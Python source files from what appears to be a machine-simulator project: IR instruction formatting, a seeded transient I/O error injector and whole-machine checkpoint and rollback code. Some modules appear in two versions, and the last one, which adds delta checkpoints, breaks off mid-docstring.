            return f"{self.dst} = {self.a} {self.sub_op} {self.b}"
        if self.op == "sext":
            return f"{self.dst} = sext{self.size}({self.a})"
        if self.op == "load":
            return f"{self.dst} = load{self.size} [{self.a}]"
        if self.op == "store":
            return f"store{self.size} [{self.a}] = {self.b}"
        if self.op == "setrel":
            return f"{self.dst} = ({self.a} {self.rel} {self.b})"
        if self.op == "cbr":
            return f"if ({self.a} {self.rel} {self.b}) goto {self.label} else {self.label2}"
        if self.op == "br":
            return f"goto {self.label}"
        if self.op == "label":
            return f"{self.name}:"
        if self.op == "call":
            args = ", ".join(str(a) for a in self.args)
            prefix = f"{self.dst} = " if self.dst else ""
            return f"{prefix}{self.name}({args})"
        if self.op == "icall":
            args = ", ".join(str(a) for a in self.args)
            prefix = f"{self.dst} = " if self.dst else ""
            return f"{prefix}(*{self.a})({args})"
        if self.op == "ret":
            return f"ret {self.a}" if self.a is not None else "ret"
        return self.op


@dataclass
class IRFunction:
    """IR for one function plus its frame layout."""

    name: str
    param_names: List[str] = field(default_factory=list)
    body: List[IRInstr] = field(default_factory=list)
    frame_size: int = 0  # bytes of locals (arrays, spilled-to-memory vars)
    vreg_count: int = 0
    param_vregs: List[VReg] = field(default_factory=list)
    returns_value: bool = True

    def new_vreg(self) -> VReg:
        """Allocate a fresh virtual register."""
        reg = VReg(self.vreg_count)
        self.vreg_count += 1
        return reg

    def alloc_frame(self, size: int, align: int = 8) -> int:
        """Reserve ``size`` bytes in the frame; returns the sp offset."""
        self.frame_size = (self.frame_size + align - 1) // align * align
        offset = self.frame_size
        self.frame_size += size
        return offset

    def listing(self) -> str:
        """Human-readable IR dump."""
        lines = [f"function {self.name}({', '.join(self.param_names)}) frame={self.frame_size}"]
        for instr in self.body:
            indent = "" if instr.op == "label" else "    "
            lines.append(f"{indent}{instr}")
        return "\n".join(lines)
