"""Seeded deterministic transient device errors.

A :class:`TransientErrorInjector` attached to ``machine.net.faults`` or
``machine.fs.faults`` makes individual I/O *attempts* fail (or reads
come back short) according to a seeded PCG-style stream — no wall-clock,
no host randomness, so every campaign trial replays exactly.  The I/O
natives absorb transients with a bounded retry-with-backoff loop (see
``GuestOS._retry_io``); an injector is deliberately **not** part of a
:class:`~repro.resil.checkpoint.MachineCheckpoint`, so a rollback does
not rewind the error stream and replay the same transient forever.
"""

from __future__ import annotations

from typing import Dict

_MASK64 = (1 << 64) - 1
_MUL = 6364136223846793005
_INC = 1442695040888963407


class TransientErrorInjector:
    """Deterministic per-attempt transient failures and short reads.

    ``fail_rate`` is the probability that any single I/O attempt raises
    a transient error (retried by the native); ``truncate_rate`` is the
    probability that a file read is delivered short.  ``max_failures``
    bounds the total number of injected failures (None = unbounded).
    """

    def __init__(self, seed: int = 1, *, fail_rate: float = 0.0,
                 truncate_rate: float = 0.0,
                 max_failures: int = None) -> None:
        self._state = (seed or 1) & _MASK64
        self.fail_rate = fail_rate
        self.truncate_rate = truncate_rate
        self.max_failures = max_failures
        self.injected_failures = 0
        self.injected_truncations = 0
        self.by_op: Dict[str, int] = {}

    def _next(self) -> float:
        """Next uniform sample in [0, 1)."""
        self._state = (self._state * _MUL + _INC) & _MASK64
        return ((self._state >> 33) & 0x7FFFFFFF) / float(1 << 31)

    def transient(self, op: str) -> bool:
        """True when this I/O attempt should fail transiently."""
        if self.fail_rate <= 0.0:
            return False
        if (self.max_failures is not None
                and self.injected_failures >= self.max_failures):
            return False
        if self._next() >= self.fail_rate:
            return False
        self.injected_failures += 1
        self.by_op[op] = self.by_op.get(op, 0) + 1
        return True

    def truncated_length(self, op: str, length: int) -> int:
        """Possibly-shortened delivery length for a read of ``length``."""
        if length <= 1 or self.truncate_rate <= 0.0:
            return length
        if self._next() >= self.truncate_rate:
            return length
        cut = 1 + int(self._next() * (length - 1))
        self.injected_truncations += 1
        self.by_op[op] = self.by_op.get(op, 0) + 1
        return min(cut, length)
