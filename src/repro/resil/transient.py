"""Seeded deterministic transient device errors.

A :class:`TransientErrorInjector` attached to ``machine.net.faults`` or
``machine.fs.faults`` makes individual I/O *attempts* fail (or reads
come back short) according to a seeded PCG-style stream — no wall-clock,
no host randomness, so every campaign trial replays exactly.  The I/O
natives absorb transients with a bounded retry-with-backoff loop (see
``GuestOS._retry_io``); an injector is deliberately **not** part of a
:class:`~repro.resil.checkpoint.MachineCheckpoint`, so a rollback does
not rewind the error stream and replay the same transient forever.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Dict

_MASK64 = (1 << 64) - 1
_MUL = 6364136223846793005
_INC = 1442695040888963407


@dataclass(frozen=True)
class RetryPolicy:
    """Bounded exponential backoff for transient failures.

    The guest I/O natives have always retried transients this way
    (``GuestOS._retry_io`` with the :class:`DeviceCosts` knobs); the
    fleet wire layer reuses the same shape for frame retransmission and
    send/recv hiccups, so one policy object describes "how patient is
    this component" everywhere.  ``limit`` bounds the retries (the
    original attempt is free), ``backoff(i)`` prices the wait before
    retry *i* in cycles.
    """

    limit: int = 4
    backoff_base: float = 2_000.0
    backoff_factor: float = 2.0

    def __post_init__(self) -> None:
        if self.limit < 0:
            raise ValueError("retry limit must be non-negative")
        if self.backoff_base < 0 or self.backoff_factor < 1.0:
            raise ValueError("backoff must be non-negative and growing")

    def backoff(self, retry: int) -> float:
        """Cycles to wait before the given retry (0-based)."""
        return self.backoff_base * self.backoff_factor ** retry

    def total_backoff(self, retries: int) -> float:
        """Cycles spent backing off across the first ``retries`` retries."""
        return sum(self.backoff(i) for i in range(retries))


class TransientErrorInjector:
    """Deterministic per-attempt transient failures and short reads.

    ``fail_rate`` is the probability that any single I/O attempt raises
    a transient error (retried by the native); ``truncate_rate`` is the
    probability that a file read is delivered short.  ``max_failures``
    bounds the total number of injected failures (None = unbounded).
    """

    def __init__(self, seed: int = 1, *, fail_rate: float = 0.0,
                 truncate_rate: float = 0.0,
                 max_failures: int = None) -> None:
        self._state = (seed or 1) & _MASK64
        self.fail_rate = fail_rate
        self.truncate_rate = truncate_rate
        self.max_failures = max_failures
        self.injected_failures = 0
        self.injected_truncations = 0
        self.by_op: Dict[str, int] = {}

    def _next(self) -> float:
        """Next uniform sample in [0, 1)."""
        self._state = (self._state * _MUL + _INC) & _MASK64
        return ((self._state >> 33) & 0x7FFFFFFF) / float(1 << 31)

    def transient(self, op: str) -> bool:
        """True when this I/O attempt should fail transiently."""
        if self.fail_rate <= 0.0:
            return False
        if (self.max_failures is not None
                and self.injected_failures >= self.max_failures):
            return False
        if self._next() >= self.fail_rate:
            return False
        self.injected_failures += 1
        self.by_op[op] = self.by_op.get(op, 0) + 1
        return True

    def truncated_length(self, op: str, length: int) -> int:
        """Possibly-shortened delivery length for a read of ``length``."""
        if length <= 1 or self.truncate_rate <= 0.0:
            return length
        if self._next() >= self.truncate_rate:
            return length
        cut = 1 + int(self._next() * (length - 1))
        self.injected_truncations += 1
        self.by_op[op] = self.by_op.get(op, 0) + 1
        return min(cut, length)
