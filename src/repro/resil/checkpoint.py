"""Whole-machine checkpoints for rollback recovery.

A :class:`MachineCheckpoint` captures everything the guest can observe:
architectural registers (including the NaT bits that *are* the taint
state of registers), predicates, branch registers, ``ar.unat``, every
non-zero sparse-memory page (the taint bitmap lives in guest memory, so
tag state rides along for free), the heap bump pointer, the fd table,
device queues, the provenance side-table and the performance counters
and cache state — so a rolled-back run is *bit-identical* to one that
never executed the discarded segment, under both the reference and the
predecoded engine.

Restore is strictly **in place**: the predecoded engine's generated
closures capture the identity of the register lists, the counters, the
``pair_costs`` dict, the issue-model group list and the store-forward
window, so the checkpoint must never rebind those objects — it mutates
their contents (``gr[:] = saved``, ``page[:] = saved``, bucket fields
assigned) instead.

What is deliberately **not** rolled back (external world / evidence):

* connections that *arrived after* the checkpoint stay queued (they are
  re-appended behind the restored pending queue);
* ``SimNetwork._next_index`` keeps counting (arrival numbers are facts);
* recorded alerts, the trace ring buffer and quarantine lists are
  append-only evidence of what happened before the rollback;
* transient-error injectors keep their stream position, otherwise a
  retried transient would replay forever.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.mem.memory import PAGE_SIZE

_ZERO_PAGE = bytes(PAGE_SIZE)

#: PerfCounters scalar fields captured verbatim.
_COUNTER_FIELDS = (
    "instructions", "groups", "issue_cycles", "stall_cycles",
    "branch_penalty_cycles", "io_cycles", "loads", "stores",
    "branches_taken",
)


def _capture_context(ctx):
    """Deep-copy one saved CpuContext (None while running on the core)."""
    if ctx is None:
        return None
    from repro.cpu.core import CpuContext

    return CpuContext(gr=list(ctx.gr), nat=list(ctx.nat), pr=list(ctx.pr),
                      br=list(ctx.br), unat=ctx.unat, pc=ctx.pc)


class MachineCheckpoint:
    """One restorable snapshot of a :class:`~repro.runtime.machine.Machine`.

    Build with :meth:`capture`; apply with :meth:`restore` on the *same*
    machine instance.  Capture flushes the open issue group first, which
    is a no-op at the points checkpoints are taken (native-call and
    run-slice boundaries always flush before returning control).
    """

    def __init__(self) -> None:
        self.instruction_count = 0
        self.pages: Dict[int, bytes] = {}
        self.pending_head_index = -1  # Connection.index, -1 when empty

    # -- capture -------------------------------------------------------

    @classmethod
    def capture(cls, machine) -> "MachineCheckpoint":
        """Snapshot the machine's complete guest-visible state."""
        self = cls()
        cpu = machine.cpu
        cpu.issue.flush()

        # CPU architectural + micro-architectural state.
        self._gr = list(cpu.gr)
        self._nat = list(cpu.nat)
        self._pr = list(cpu.pr)
        self._br = list(cpu.br)
        self._unat = cpu.unat
        self._pc = cpu.pc
        self._halted = cpu.halted
        self._exit_code = cpu.exit_code
        self._yield_requested = cpu.yield_requested
        self._fault_pc = cpu._fault_pc
        self._recent_stores = list(cpu._recent_stores)

        # Performance counters: scalars plus the ordered RoleCost buckets.
        counters = cpu.counters
        self._counter_scalars = tuple(
            getattr(counters, f) for f in _COUNTER_FIELDS)
        self._pair_costs: List[Tuple[object, Tuple[int, float, float]]] = [
            (key, (c.slots, c.issue_cycles, c.stall_cycles))
            for key, c in counters.pair_costs.items()
        ]
        self.instruction_count = counters.instructions

        # Cache hierarchy: LRU contents + hit/miss statistics per level.
        self._caches = []
        for cache in (cpu.caches.l1, cpu.caches.l2, cpu.caches.l3):
            sets = {i: tuple(ways) for i, ways in enumerate(cache._sets)
                    if ways}
            self._caches.append(
                (sets, cache.stats.accesses, cache.stats.misses))

        # Memory: every non-zero page (tag bitmap pages included).
        self.pages = {
            pno: bytes(page)
            for pno, page in machine.memory._pages.items()
            if page != _ZERO_PAGE
        }
        self._heap_next = machine._heap_next
        self._heap_sizes = dict(machine._heap_sizes)

        # Taint live-byte counter and adaptive mode (repro.adaptive):
        # the bitmap pages above already carry the tag *bits*; the
        # counter and the controller's mode must stay consistent with
        # them or a restored machine could enter fast mode non-quiescent.
        self._live_granules = machine.taint_map.live_granules
        adaptive = getattr(machine, "adaptive", None)
        self._adaptive = None if adaptive is None else adaptive.capture()

        # Guest OS: fd table (connection objects are shared by reference;
        # their mutable cursors are saved separately below).
        os = machine.os
        self._stdin_pos = os._stdin_pos
        self._next_fd = os._next_fd
        self._fds = [
            (fd, h.kind, h.path, h.pos, h.conn,
             None if h.write_buffer is None else bytes(h.write_buffer))
            for fd, h in os._fds.items()
        ]
        self._io_retries = os.io_retries
        self._io_failures = os.io_failures

        # Network: queue membership plus per-connection cursors.
        net = machine.net
        self._pending = tuple(net.pending)
        self._completed = tuple(net.completed)
        self._arrival_watermark = net._next_index
        self._conn_state = [
            (conn, conn.read_pos, len(conn.outbound),
             None if conn.outbound_tags is None else len(conn.outbound_tags))
            for conn in (*net.pending, *net.completed)
        ]
        if self._pending:
            self.pending_head_index = self._pending[0].index

        # Filesystem, console, side-effect logs, guest RNG.
        self._files = dict(machine.fs.files)
        self._console_out = len(machine.console.out)
        self._console_err = len(machine.console.err)
        self._commands = len(machine.executed_commands)
        self._queries = len(machine.executed_queries)
        self._rng_state = machine.rng_state

        # Provenance side-table (mirrors the rolled-back tag bitmap).
        self._provenance = None
        if machine.obs is not None:
            prov = machine.obs.provenance
            self._provenance = (list(prov.origins), dict(prov._table))

        # Threads: scheduler bookkeeping + saved per-thread contexts.
        threads = machine.threads
        self._thread_state = [
            (t.tid, t.status, t.exit_value, list(t.join_waiters),
             _capture_context(t.context))
            for t in threads.threads.values()
        ]
        self._current_tid = threads.current_tid
        self._next_tid = threads._next_tid
        self._mutexes = [
            (mid, m.holder, list(m.waiters))
            for mid, m in threads.mutexes.items()
        ]
        self._next_mutex = threads._next_mutex
        self._context_switches = threads.context_switches
        return self

    # -- restore -------------------------------------------------------

    def restore(self, machine) -> None:
        """Roll the machine back to this snapshot, strictly in place."""
        cpu = machine.cpu

        cpu.gr[:] = self._gr
        cpu.nat[:] = self._nat
        cpu.pr[:] = self._pr
        cpu.br[:] = self._br
        cpu.unat = self._unat
        cpu.pc = self._pc
        cpu.halted = self._halted
        cpu.exit_code = self._exit_code
        cpu.yield_requested = self._yield_requested
        cpu._fault_pc = self._fault_pc
        cpu._recent_stores[:] = self._recent_stores

        # Issue model: the capture point was group-flushed, so the
        # restored group is empty; clear the live one without closing it
        # (closing would charge cycles that belong to the discarded run).
        issue = cpu.issue
        issue._group.clear()
        issue._group_writes = 0
        issue._group_pr_writes = 0
        issue._group_mem = 0
        issue._group_slots = 0

        counters = cpu.counters
        for field, value in zip(_COUNTER_FIELDS, self._counter_scalars):
            setattr(counters, field, value)
        # Saved keys are an order-preserving prefix of the live dict
        # (buckets are created lazily and never removed), so deleting
        # the post-checkpoint extras restores the exact creation order.
        saved_keys = {key for key, _ in self._pair_costs}
        for key in [k for k in counters.pair_costs if k not in saved_keys]:
            del counters.pair_costs[key]
        for key, (slots, issue_cycles, stall_cycles) in self._pair_costs:
            bucket = counters.pair_costs[key]
            bucket.slots = slots
            bucket.issue_cycles = issue_cycles
            bucket.stall_cycles = stall_cycles

        for cache, (sets, accesses, misses) in zip(
                (cpu.caches.l1, cpu.caches.l2, cpu.caches.l3), self._caches):
            for i, ways in enumerate(cache._sets):
                saved = sets.get(i)
                if saved is not None:
                    ways[:] = saved
                elif ways:
                    ways.clear()
            cache.stats.accesses = accesses
            cache.stats.misses = misses

        # Memory: pages allocated after the checkpoint are zero-filled in
        # place (content-equivalent to never-allocated, and it keeps the
        # one-entry page cache valid).  Pages are never freed, so every
        # saved page still exists.
        for pno, page in machine.memory._pages.items():
            saved = self.pages.get(pno)
            if saved is not None:
                page[:] = saved
            else:
                page[:] = _ZERO_PAGE
        machine._heap_next = self._heap_next
        machine._heap_sizes.clear()
        machine._heap_sizes.update(self._heap_sizes)
        machine.taint_map.live_granules = self._live_granules
        adaptive = getattr(machine, "adaptive", None)
        if adaptive is not None and self._adaptive is not None:
            adaptive.restore(self._adaptive)

        from repro.runtime.guest_os import FileHandle

        os = machine.os
        os._stdin_pos = self._stdin_pos
        os._next_fd = self._next_fd
        os._fds.clear()
        for fd, kind, path, pos, conn, write_buffer in self._fds:
            os._fds[fd] = FileHandle(
                kind=kind, path=path, pos=pos, conn=conn,
                write_buffer=(None if write_buffer is None
                              else bytearray(write_buffer)))
        os.io_retries = self._io_retries
        os.io_failures = self._io_failures

        net = machine.net
        for conn, read_pos, outbound_len, tags_len in self._conn_state:
            conn.read_pos = read_pos
            del conn.outbound[outbound_len:]
            if tags_len is None:
                conn.outbound_tags = None
            elif conn.outbound_tags is not None:
                del conn.outbound_tags[tags_len:]
        # Connections that arrived after the checkpoint are external
        # facts: keep them queued behind the restored pending set.
        new_arrivals = [c for c in net.pending
                        if c.index >= self._arrival_watermark]
        net.pending.clear()
        net.pending.extend(self._pending)
        net.pending.extend(new_arrivals)
        net.completed[:] = self._completed

        machine.fs.files.clear()
        machine.fs.files.update(self._files)
        del machine.console.out[self._console_out:]
        del machine.console.err[self._console_err:]
        del machine.executed_commands[self._commands:]
        del machine.executed_queries[self._queries:]
        machine.rng_state = self._rng_state

        if self._provenance is not None and machine.obs is not None:
            prov = machine.obs.provenance
            origins, table = self._provenance
            prov.origins[:] = origins
            prov._table.clear()
            prov._table.update(table)

        from repro.runtime.threads import GuestThread, Mutex

        threads = machine.threads
        threads.threads.clear()
        for tid, status, exit_value, join_waiters, ctx in self._thread_state:
            threads.threads[tid] = GuestThread(
                tid=tid, context=_capture_context(ctx), status=status,
                exit_value=exit_value, join_waiters=list(join_waiters))
        threads.current_tid = self._current_tid
        threads._next_tid = self._next_tid
        threads.mutexes.clear()
        for mid, holder, waiters in self._mutexes:
            threads.mutexes[mid] = Mutex(holder=holder,
                                         waiters=list(waiters))
        threads._next_mutex = self._next_mutex
        threads.context_switches = self._context_switches

    # -- introspection -------------------------------------------------

    @property
    def page_count(self) -> int:
        """Number of non-zero memory pages captured."""
        return len(self.pages)

    @property
    def pending_requests(self) -> int:
        """Pending connections at capture time."""
        return len(self._pending)
