"""Whole-machine checkpoints for rollback recovery.

A :class:`MachineCheckpoint` captures everything the guest can observe:
architectural registers (including the NaT bits that *are* the taint
state of registers), predicates, branch registers, ``ar.unat``, every
non-zero sparse-memory page (the taint bitmap lives in guest memory, so
tag state rides along for free), the heap bump pointer, the fd table,
device queues, the provenance side-table and the performance counters
and cache state — so a rolled-back run is *bit-identical* to one that
never executed the discarded segment, under both the reference and the
predecoded engine.

Copy-on-write deltas: a :class:`DeltaCheckpoint` chains off a parent
checkpoint and captures only the memory pages written since the parent
was taken (``SparseMemory`` tracks them — see the dirty-page epoch
protocol in :mod:`repro.mem.memory`), plus the same small register/OS/
provenance state.  Reading a page walks the chain child → parent →
base; a missing page everywhere means all-zero.  Restore is O(touched)
whenever the live dirty epoch matches the checkpoint being restored
(the common rollback-to-latest case, full *or* delta), and falls back
to a full chain walk otherwise — always correct, merely slower.

Restore is strictly **in place**: the predecoded engine's generated
closures capture the identity of the register lists, the counters, the
``pair_costs`` dict, the issue-model group list and the store-forward
window, so the checkpoint must never rebind those objects — it mutates
their contents (``gr[:] = saved``, ``page[:] = saved``, bucket fields
assigned) instead.

What is deliberately **not** rolled back (external world / evidence):

* connections that *arrived after* the checkpoint stay queued (they are
  re-appended behind the restored pending queue);
* ``SimNetwork._next_index`` keeps counting (arrival numbers are facts);
* recorded alerts, the trace ring buffer and quarantine lists are
  append-only evidence of what happened before the rollback;
* transient-error injectors keep their stream position, otherwise a
  retried transient would replay forever.
"""

from __future__ import annotations

from typing import Dict, List, Optional, Tuple

from repro.mem.memory import PAGE_SIZE

_ZERO_PAGE = bytes(PAGE_SIZE)

#: PerfCounters scalar fields captured verbatim.
_COUNTER_FIELDS = (
    "instructions", "groups", "issue_cycles", "stall_cycles",
    "branch_penalty_cycles", "io_cycles", "loads", "stores",
    "branches_taken",
)


def _capture_context(ctx):
    """Deep-copy one saved CpuContext (None while running on the core)."""
    if ctx is None:
        return None
    from repro.cpu.core import CpuContext

    return CpuContext(gr=list(ctx.gr), nat=list(ctx.nat), pr=list(ctx.pr),
                      br=list(ctx.br), unat=ctx.unat, pc=ctx.pc)


class _SnapshotBase:
    """State capture/restore shared by full and delta checkpoints.

    Subclasses differ only in *which memory pages* they carry and how a
    page is resolved at restore time; everything else — registers,
    counters, caches, OS, devices, provenance, threads — is small and
    captured wholesale by :meth:`_capture_state`.
    """

    kind = "full"

    def __init__(self) -> None:
        self.instruction_count = 0
        self.pages: Dict[int, bytes] = {}
        #: Parent in the delta chain (None for a base snapshot).
        self.parent: Optional["_SnapshotBase"] = None
        #: Dirty-page epoch token this snapshot opened (see
        #: SparseMemory.begin_epoch).
        self.epoch = 0
        self.pending_head_index = -1  # Connection.index, -1 when empty

    # -- capture -------------------------------------------------------

    def _capture_state(self, machine) -> None:
        """Capture everything except memory pages."""
        cpu = machine.cpu
        cpu.issue.flush()

        # CPU architectural + micro-architectural state.
        self._gr = list(cpu.gr)
        self._nat = list(cpu.nat)
        self._pr = list(cpu.pr)
        self._br = list(cpu.br)
        self._unat = cpu.unat
        self._pc = cpu.pc
        self._halted = cpu.halted
        self._exit_code = cpu.exit_code
        self._yield_requested = cpu.yield_requested
        self._fault_pc = cpu._fault_pc
        self._recent_stores = list(cpu._recent_stores)

        # Performance counters: scalars plus the ordered RoleCost buckets.
        counters = cpu.counters
        self._counter_scalars = tuple(
            getattr(counters, f) for f in _COUNTER_FIELDS)
        self._pair_costs: List[Tuple[object, Tuple[int, float, float]]] = [
            (key, (c.slots, c.issue_cycles, c.stall_cycles))
            for key, c in counters.pair_costs.items()
        ]
        self.instruction_count = counters.instructions

        # Cache hierarchy: LRU contents + hit/miss statistics per level.
        self._caches = []
        for cache in (cpu.caches.l1, cpu.caches.l2, cpu.caches.l3):
            # Only occupied sets hold lines (occupancy is monotone), so
            # capture walks tens of entries, not thousands of empties.
            sets = {i: tuple(cache._sets[i]) for i in cache._occupied}
            self._caches.append(
                (sets, cache.stats.accesses, cache.stats.misses))

        self._heap_next = machine._heap_next
        self._heap_sizes = dict(machine._heap_sizes)

        # Taint live-byte counter and adaptive mode (repro.adaptive):
        # the bitmap pages already carry the tag *bits*; the counter and
        # the controller's mode must stay consistent with them or a
        # restored machine could enter fast mode non-quiescent.
        self._live_granules = machine.taint_map.live_granules
        adaptive = getattr(machine, "adaptive", None)
        self._adaptive = None if adaptive is None else adaptive.capture()

        # Guest OS: fd table (connection objects are shared by reference;
        # their mutable cursors are saved separately below).
        os = machine.os
        self._stdin_pos = os._stdin_pos
        self._next_fd = os._next_fd
        self._fds = [
            (fd, h.kind, h.path, h.pos, h.conn,
             None if h.write_buffer is None else bytes(h.write_buffer))
            for fd, h in os._fds.items()
        ]
        self._io_retries = os.io_retries
        self._io_failures = os.io_failures

        # Network: queue membership plus per-connection cursors.
        net = machine.net
        self._pending = tuple(net.pending)
        self._completed = tuple(net.completed)
        self._arrival_watermark = net._next_index
        self._conn_state = [
            (conn, conn.read_pos, len(conn.outbound),
             None if conn.outbound_tags is None else len(conn.outbound_tags))
            for conn in (*net.pending, *net.completed)
        ]
        if self._pending:
            self.pending_head_index = self._pending[0].index
        # External-evidence watermarks: restore() on the same machine
        # deliberately leaves these alone (they are append-only facts),
        # but a migration rehydrate onto a fresh machine uses them to
        # cut the carried-by-value copies back to this checkpoint's
        # view — the target re-executes the later requests itself.
        self._quarantined_len = len(net.quarantined)
        self._net_dropped = net.dropped

        # Filesystem, console, side-effect logs, guest RNG.
        self._files = dict(machine.fs.files)
        self._console_out = len(machine.console.out)
        self._console_err = len(machine.console.err)
        self._commands = len(machine.executed_commands)
        self._queries = len(machine.executed_queries)
        self._rng_state = machine.rng_state

        # Provenance side-table (mirrors the rolled-back tag bitmap).
        self._provenance = None
        if machine.obs is not None:
            prov = machine.obs.provenance
            self._provenance = (list(prov.origins), dict(prov._table))

        # Threads: scheduler bookkeeping + saved per-thread contexts.
        threads = machine.threads
        self._thread_state = [
            (t.tid, t.status, t.exit_value, list(t.join_waiters),
             _capture_context(t.context))
            for t in threads.threads.values()
        ]
        self._current_tid = threads.current_tid
        self._next_tid = threads._next_tid
        self._mutexes = [
            (mid, m.holder, list(m.waiters))
            for mid, m in threads.mutexes.items()
        ]
        self._next_mutex = threads._next_mutex
        self._context_switches = threads.context_switches

    # -- restore -------------------------------------------------------

    def _resolve_page(self, pno: int) -> Optional[bytes]:
        """Effective content of page ``pno`` at this snapshot.

        Walks the chain toward the base; None means all-zero (absent
        everywhere).
        """
        node: Optional["_SnapshotBase"] = self
        while node is not None:
            saved = node.pages.get(pno)
            if saved is not None:
                return saved
            node = node.parent
        return None

    def _restore_memory(self, machine) -> None:
        """Roll guest memory back to this snapshot, strictly in place.

        Fast path: when the live dirty epoch *is* this snapshot's epoch,
        only the pages in the dirty set can differ — rewrite exactly
        those, O(touched).  Slow path (restoring an older snapshot, or
        rehydrating onto a fresh machine): rewrite the union of live and
        chain-captured pages, materialising pages the target machine
        never allocated.  Pages allocated after the checkpoint are
        zero-filled in place (content-equivalent to never-allocated,
        and it keeps the one-entry page cache valid).
        """
        mem = machine.memory
        if mem.dirty_epoch == self.epoch:
            pnos = set(mem.dirty_pages())
        else:
            pnos = set(mem._pages)
            node: Optional["_SnapshotBase"] = self
            while node is not None:
                pnos |= node.pages.keys()
                node = node.parent
        pages = mem._pages
        for pno in pnos:
            saved = self._resolve_page(pno)
            page = pages.get(pno)
            if page is None:
                if saved is None:
                    continue
                page = bytearray(PAGE_SIZE)
                pages[pno] = page
            page[:] = saved if saved is not None else _ZERO_PAGE
        mem.rebind_epoch(self.epoch)

    def restore(self, machine) -> None:
        """Roll the machine back to this snapshot, strictly in place."""
        cpu = machine.cpu

        cpu.gr[:] = self._gr
        cpu.nat[:] = self._nat
        cpu.pr[:] = self._pr
        cpu.br[:] = self._br
        cpu.unat = self._unat
        cpu.pc = self._pc
        cpu.halted = self._halted
        cpu.exit_code = self._exit_code
        cpu.yield_requested = self._yield_requested
        cpu._fault_pc = self._fault_pc
        cpu._recent_stores[:] = self._recent_stores

        # Issue model: the capture point was group-flushed, so the
        # restored group is empty; clear the live one without closing it
        # (closing would charge cycles that belong to the discarded run).
        issue = cpu.issue
        issue._group.clear()
        issue._group_writes = 0
        issue._group_pr_writes = 0
        issue._group_mem = 0
        issue._group_slots = 0

        counters = cpu.counters
        for field, value in zip(_COUNTER_FIELDS, self._counter_scalars):
            setattr(counters, field, value)
        # Saved keys are an order-preserving prefix of the live dict
        # (buckets are created lazily and never removed), so deleting
        # the post-checkpoint extras restores the exact creation order.
        saved_keys = {key for key, _ in self._pair_costs}
        for key in [k for k in counters.pair_costs if k not in saved_keys]:
            del counters.pair_costs[key]
        for key, (slots, issue_cycles, stall_cycles) in self._pair_costs:
            bucket = counters.pair_costs.get(key)
            if bucket is None:
                # Fresh-machine rehydrate (migration): the target has
                # never executed, so its buckets are created here, in
                # saved order — preserving the source's creation order.
                bucket = counters.pair(*key)
            bucket.slots = slots
            bucket.issue_cycles = issue_cycles
            bucket.stall_cycles = stall_cycles

        for cache, (sets, accesses, misses) in zip(
                (cpu.caches.l1, cpu.caches.l2, cpu.caches.l3), self._caches):
            # Clear sets filled after the capture, rewrite the saved
            # ones; _occupied shrinks back to the captured index set.
            for i in cache._occupied - sets.keys():
                cache._sets[i].clear()
            for i, saved in sets.items():
                cache._sets[i][:] = saved
            cache._occupied = set(sets.keys())
            cache.stats.accesses = accesses
            cache.stats.misses = misses

        self._restore_memory(machine)
        machine._heap_next = self._heap_next
        machine._heap_sizes.clear()
        machine._heap_sizes.update(self._heap_sizes)
        machine.taint_map.live_granules = self._live_granules
        adaptive = getattr(machine, "adaptive", None)
        if adaptive is not None and self._adaptive is not None:
            adaptive.restore(self._adaptive)

        from repro.runtime.guest_os import FileHandle

        os = machine.os
        os._stdin_pos = self._stdin_pos
        os._next_fd = self._next_fd
        os._fds.clear()
        for fd, kind, path, pos, conn, write_buffer in self._fds:
            os._fds[fd] = FileHandle(
                kind=kind, path=path, pos=pos, conn=conn,
                write_buffer=(None if write_buffer is None
                              else bytearray(write_buffer)))
        os.io_retries = self._io_retries
        os.io_failures = self._io_failures

        net = machine.net
        for conn, read_pos, outbound_len, tags_len in self._conn_state:
            conn.read_pos = read_pos
            del conn.outbound[outbound_len:]
            if tags_len is None:
                conn.outbound_tags = None
            elif conn.outbound_tags is not None:
                del conn.outbound_tags[tags_len:]
        # Connections that arrived after the checkpoint are external
        # facts: keep them queued behind the restored pending set.
        new_arrivals = [c for c in net.pending
                        if c.index >= self._arrival_watermark]
        net.pending.clear()
        net.pending.extend(self._pending)
        net.pending.extend(new_arrivals)
        net.completed[:] = self._completed

        machine.fs.files.clear()
        machine.fs.files.update(self._files)
        del machine.console.out[self._console_out:]
        del machine.console.err[self._console_err:]
        del machine.executed_commands[self._commands:]
        del machine.executed_queries[self._queries:]
        machine.rng_state = self._rng_state

        if self._provenance is not None and machine.obs is not None:
            prov = machine.obs.provenance
            origins, table = self._provenance
            prov.origins[:] = origins
            prov._table.clear()
            prov._table.update(table)

        from repro.runtime.threads import GuestThread, Mutex

        threads = machine.threads
        threads.threads.clear()
        for tid, status, exit_value, join_waiters, ctx in self._thread_state:
            threads.threads[tid] = GuestThread(
                tid=tid, context=_capture_context(ctx), status=status,
                exit_value=exit_value, join_waiters=list(join_waiters))
        threads.current_tid = self._current_tid
        threads._next_tid = self._next_tid
        threads.mutexes.clear()
        for mid, holder, waiters in self._mutexes:
            threads.mutexes[mid] = Mutex(holder=holder,
                                         waiters=list(waiters))
        threads._next_mutex = self._next_mutex
        threads.context_switches = self._context_switches

    # -- introspection -------------------------------------------------

    @property
    def page_count(self) -> int:
        """Pages captured *by this snapshot* (not the whole chain)."""
        return len(self.pages)

    @property
    def byte_size(self) -> int:
        """Memory bytes captured by this snapshot (pages only)."""
        return len(self.pages) * PAGE_SIZE

    @property
    def chain_length(self) -> int:
        """Snapshots in the chain ending here (1 for a base)."""
        n, node = 0, self
        while node is not None:
            n += 1
            node = node.parent
        return n

    @property
    def pending_requests(self) -> int:
        """Pending connections at capture time."""
        return len(self._pending)


class MachineCheckpoint(_SnapshotBase):
    """One full restorable snapshot of a :class:`~repro.runtime.machine.Machine`.

    Build with :meth:`capture`; apply with :meth:`restore` on the same
    machine instance (or a freshly built twin, for migration).  Capture
    flushes the open issue group first, which is a no-op at the points
    checkpoints are taken (native-call and run-slice boundaries always
    flush before returning control).
    """

    kind = "full"

    @classmethod
    def capture(cls, machine) -> "MachineCheckpoint":
        """Snapshot the machine's complete guest-visible state."""
        self = cls()
        self._capture_state(machine)

        # Memory: every non-zero page (tag bitmap pages included).
        self.pages = {
            pno: bytes(page)
            for pno, page in machine.memory._pages.items()
            if page != _ZERO_PAGE
        }
        self.epoch = machine.memory.begin_epoch()
        return self

    def absorb(self, delta: "DeltaCheckpoint") -> None:
        """Fold a direct-child delta into this base, in place.

        Afterwards this snapshot is state-identical to ``delta`` (its
